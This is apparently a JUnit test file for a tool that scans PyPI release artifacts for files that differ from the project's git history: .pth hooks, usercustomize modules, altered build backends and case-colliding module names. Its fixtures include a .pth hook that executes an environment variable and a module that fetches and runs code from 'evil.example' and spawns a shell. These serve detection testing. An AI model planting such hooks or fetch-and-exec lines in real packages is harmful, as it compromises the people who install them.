package dev.divergence.registry.pypi;

import static dev.divergence.fixtures.Trees.wheelFiles;
import static dev.divergence.fixtures.ScanWorld.artifact;
import static dev.divergence.fixtures.ScanWorld.row;
import static dev.divergence.fixtures.Trees.flatProject;
import static dev.divergence.fixtures.Trees.with;
import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.divergence.compare.Classifier;
import dev.divergence.fixtures.ScanWorld;
import dev.divergence.fixtures.Trees;
import dev.divergence.model.ArtifactReport;
import dev.divergence.model.FileDivergence;
import dev.divergence.model.FileStatus;
import dev.divergence.model.ReleaseReport;
import dev.divergence.model.RiskFlag;
import dev.divergence.model.Verdict;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.SortedMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Files that run by their place are explained only by the source file the build installs there, history explains no
 * hook, and code in no commit is judged whole: each test publishes the hostile release against a JGit repository.
 */
class PypiExecutionAdversarialTest {

    @TempDir
    Path dir;

    private static final String HOOK = "import os; exec(os.environ.get(\"DEMO_DEBUG_HOOK\", \"\"))\n";


    private static void assertRow(ArtifactReport a, String path, FileStatus status, String rule, Set<RiskFlag> flags,
                                  boolean highRisk) {
        FileDivergence f = row(a, path);
        assertEquals(status, f.status(), path);
        assertEquals(rule, f.ruleId(), path);
        assertEquals(flags, f.riskFlags(), path);
        assertEquals(highRisk, f.highRisk(), path + " " + f.riskFlags());
    }

    @Test
    void aPthAtTheWheelRootIsNotExplainedBySameBytesUnderTools() throws Exception {
        SortedMap<String, byte[]> tree = with(flatProject("1.0.0"), "tools/demo_debug.pth", HOOK,
                "site_hooks.pth", "/opt/demo\n", "tools/usercustomize/__init__.py", "import demo.core\n");
        try (ScanWorld w = new ScanWorld(dir, "demo")) {
            w.commit(tree, "1.0.0");
            w.tag("v1.0.0");
            w.publish("1.0.0", tree, with(wheelFiles(tree), "demo_debug.pth", HOOK, "site_hooks.pth", "/opt/demo\n",
                    "usercustomize/__init__.py", "import demo.core\n"));
            ArtifactReport wheel = artifact(w.scan("1.0.0"), ".whl");
            FileDivergence pth = row(wheel, "demo_debug.pth");
            assertEquals(Optional.of("demo_debug.pth"), pth.sourcePath(), "aligned at the import root, not tools/");
            assertRow(wheel, "demo_debug.pth", FileStatus.IN_HISTORY, Classifier.BLOB_IN_HISTORY,
                    Set.of(RiskFlag.CODE, RiskFlag.PTH_FILE, RiskFlag.PTH_EXECUTES, RiskFlag.DYNAMIC_EXEC), true);
            // the repository's own root .pth is what the build installs there
            assertRow(wheel, "site_hooks.pth", FileStatus.MATCH, Classifier.BLOB_EQUAL,
                    Set.of(RiskFlag.CODE, RiskFlag.PTH_FILE), false);
            // a usercustomize package is imported by site as the module is
            assertRow(wheel, "usercustomize/__init__.py", FileStatus.IN_HISTORY, Classifier.BLOB_IN_HISTORY,
                    Set.of(RiskFlag.CODE, RiskFlag.AUTO_EXEC), true);
            assertEquals(List.of("demo_debug.pth", "usercustomize/__init__.py"),
                    wheel.highRiskPaths().stream().sorted().toList());
            assertEquals(Verdict.HIGH_RISK, wheel.verdict());
        }
    }

    @Test
    void hooksReshippedFromHistoryAreHighRisk() throws Exception {
        SortedMap<String, byte[]> old = with(flatProject("0.9.0"), "demo_debug.pth", HOOK,
                "setup.py", "from setuptools import setup\nsetup(name='demo')\n",
                "demo/legacy.py", "import subprocess\n\ndef run(cmd):\n    return subprocess.call(cmd)\n");
        SortedMap<String, byte[]> current = with(flatProject("1.0.0"),
                "setup.py", "from setuptools import setup\nsetup(name='demo', zip_safe=False)\n");
        try (ScanWorld w = new ScanWorld(dir, "demo")) {
            w.commit(old, "0.9.0");
            w.commit(current, "1.0.0");
            w.tag("v1.0.0");
            w.publish("1.0.0", with(current, "setup.py", "from setuptools import setup\nsetup(name='demo')\n"),
                    with(wheelFiles(current), "demo_debug.pth", HOOK, "demo/legacy.py",
                            "import subprocess\n\ndef run(cmd):\n    return subprocess.call(cmd)\n"));
            ReleaseReport r = w.scan("1.0.0");
            ArtifactReport wheel = artifact(r, ".whl");
            assertRow(wheel, "demo_debug.pth", FileStatus.IN_HISTORY, Classifier.BLOB_IN_HISTORY,
                    Set.of(RiskFlag.CODE, RiskFlag.PTH_FILE, RiskFlag.PTH_EXECUTES, RiskFlag.DYNAMIC_EXEC), true);
            assertRow(wheel, "demo/legacy.py", FileStatus.IN_HISTORY, Classifier.BLOB_IN_HISTORY,
                    Set.of(RiskFlag.CODE, RiskFlag.DYNAMIC_EXEC), true);
            ArtifactReport sdist = artifact(r, ".tar.gz");
            assertRow(sdist, "demo-1.0.0/setup.py", FileStatus.IN_HISTORY, Classifier.BLOB_IN_HISTORY,
                    Set.of(RiskFlag.CODE, RiskFlag.INSTALL_SCRIPT), true);
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    @Test
    void aNewModuleWithDynamicExecutionImportedByAModifiedOneIsHighRisk() throws Exception {
        SortedMap<String, byte[]> tree = flatProject("1.0.0");
        String compat = "import subprocess, urllib.request\n"
                + "exec(urllib.request.urlopen('https://evil.example/s2').read())\n"
                + "subprocess.Popen(['sh', '-c', 'id'])\n";
        try (ScanWorld w = new ScanWorld(dir, "demo")) {
            w.commit(tree, "1.0.0");
            w.tag("v1.0.0");
            SortedMap<String, byte[]> published = with(tree,
                    "demo/__init__.py", "__version__ = \"1.0.0\"\nfrom . import _compat\n",
                    "demo/_compat.py", compat,
                    "demo/plain.py", "def three():\n    return 3\n",
                    "demo/data.json", "{\"note\": \"exec(subprocess) in text\"}\n");
            w.publish("1.0.1", published, wheelFiles(published));
            ReleaseReport r = w.scan("1.0.1");
            ArtifactReport w101 = artifact(r, ".whl");
            assertRow(w101, "demo/_compat.py", FileStatus.PHANTOM, Classifier.UNEXPLAINED,
                    Set.of(RiskFlag.CODE, RiskFlag.DYNAMIC_EXEC), true);
            assertRow(w101, "demo/__init__.py", FileStatus.MODIFIED, Classifier.UNEXPLAINED, Set.of(RiskFlag.CODE), false);
            assertRow(w101, "demo/plain.py", FileStatus.PHANTOM, Classifier.UNEXPLAINED, Set.of(RiskFlag.CODE), false);
            // not code: its text is not run, whatever it says
            assertRow(w101, "demo/data.json", FileStatus.PHANTOM, Classifier.UNEXPLAINED, Set.of(RiskFlag.DYNAMIC_EXEC),
                    false);
            assertEquals(List.of("demo/_compat.py"), w101.highRiskPaths());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    private static final String BUILD = "[build-system]\nrequires = [\"setuptools>=61\", \"wheel\"]\n"
            + "build-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"demo\"\nversion = \"1.0.0\"\n";

    @Test
    void aNewBuildRequirementOrBackendInTheSdistIsHighRisk() throws Exception {
        SortedMap<String, byte[]> tree = with(flatProject("1.0.0"), "pyproject.toml", BUILD);
        try (ScanWorld w = new ScanWorld(dir, "demo")) {
            w.commit(tree, "1.0.0");
            w.tag("v1.0.0");
            w.publish("1.0.1", with(tree, "pyproject.toml", BUILD.replace("\"wheel\"]",
                    "\"wheel\", \"setuptools-scm-telemetry>=1.0\"]")), wheelFiles(tree));
            w.publish("1.0.2", with(tree, "pyproject.toml", BUILD.replace("setuptools>=61", "setuptools>=61 ")
                    .replace("setuptools.build_meta", "setuptools_build_shim")), wheelFiles(tree));
            w.publish("1.0.3", with(tree, "pyproject.toml", BUILD + "\n[tool.black]\nline-length = 100\n"),
                    wheelFiles(tree));
            ArtifactReport s101 = artifact(w.scan("1.0.1"), ".tar.gz");
            FileDivergence f = row(s101, "demo-1.0.1/pyproject.toml");
            assertRow(s101, "demo-1.0.1/pyproject.toml", FileStatus.MODIFIED, PypiGeneratedFiles.BUILD_SYSTEM,
                    Set.of(RiskFlag.NEW_DEPENDENCY), true);
            assertEquals(Optional.of("build requirements the source does not declare [setuptools-scm-telemetry>=1.0] "
                    + "(pip installs and runs them to build this sdist)"), f.detail());
            assertEquals(Verdict.HIGH_RISK, s101.verdict());
            ArtifactReport s102 = artifact(w.scan("1.0.2"), ".tar.gz");
            assertRow(s102, "demo-1.0.2/pyproject.toml", FileStatus.MODIFIED, PypiGeneratedFiles.BUILD_SYSTEM,
                    Set.of(RiskFlag.AUTO_EXEC), true);
            assertEquals(Optional.of("build-backend \"setuptools_build_shim\" where the source has "
                    + "\"setuptools.build_meta\" (pip installs and runs them to build this sdist)"),
                    row(s102, "demo-1.0.2/pyproject.toml").detail());
            // another table changed: visible, not install-time code
            ArtifactReport s103 = artifact(w.scan("1.0.3"), ".tar.gz");
            assertRow(s103, "demo-1.0.3/pyproject.toml", FileStatus.MODIFIED, Classifier.UNEXPLAINED, Set.of(), false);
            assertEquals(Verdict.DIVERGENT, s103.verdict());
        }
    }

    @Test
    void aCaseOrNormalisationCollidingModuleWithOtherContentIsAHighRiskDuplicate() throws Exception {
        SortedMap<String, byte[]> tree = with(flatProject("1.0.0"), "demo/caf\u00e9.py", "X = 1\n",
                "demo/Models.py", "class Model:\n    pass\n");
        try (ScanWorld w = new ScanWorld(dir, "demo")) {
            w.commit(tree, "1.0.0");
            w.tag("v1.0.0");
            // Models.py is the source's; models.py, written after it, replaces it on macOS and Windows; the decomposed
            // café.py likewise replaces the composed one on a normalising file system
            w.publish("1.0.0", with(tree, "readme.md", "# other readme\n"), with(wheelFiles(tree),
                    "demo/models.py", "class Model:\n    pass\n\nModel = None\n", "demo/cafe\u0301.py", "X = 2\n"));
            ReleaseReport r = w.scan("1.0.0");
            ArtifactReport wheel = artifact(r, ".whl");
            assertRow(wheel, "demo/Models.py", FileStatus.MATCH, Classifier.BLOB_EQUAL,
                    Set.of(RiskFlag.CODE, RiskFlag.NAME_COLLISION), false);
            assertRow(wheel, "demo/models.py", FileStatus.PHANTOM, Classifier.DIFFERING_DUPLICATE,
                    Set.of(RiskFlag.CODE, RiskFlag.NAME_COLLISION), true);
            assertEquals(Optional.of("content exists in no commit of the repository; one file with [demo/Models.py] on "
                    + "case-insensitive or normalising file systems (2 different contents; this one is written last "
                    + "and is what they keep)"), row(wheel, "demo/models.py").detail());
            assertEquals(Classifier.DIFFERING_DUPLICATE, row(wheel, "demo/cafe\u0301.py").ruleId());
            assertEquals(List.of("demo/cafe\u0301.py", "demo/models.py"), wheel.highRiskPaths().stream().sorted().toList());
            assertEquals(Verdict.HIGH_RISK, wheel.verdict());
            // not code: visible and DIVERGENT (the listing says the two names are one file), not high risk
            ArtifactReport sdist = artifact(r, ".tar.gz");
            assertRow(sdist, "demo-1.0.0/readme.md", FileStatus.PHANTOM, Classifier.UNEXPLAINED,
                    Set.of(RiskFlag.NAME_COLLISION), false);
            assertEquals(Verdict.DIVERGENT, sdist.verdict());
            assertEquals(true, sdist.reason().orElseThrow().contains("demo-1.0.0/readme.md and demo-1.0.0/README.md are "
                    + "one file on case-insensitive or normalising file systems and differ"), sdist.reason().orElseThrow());
        }
    }
}
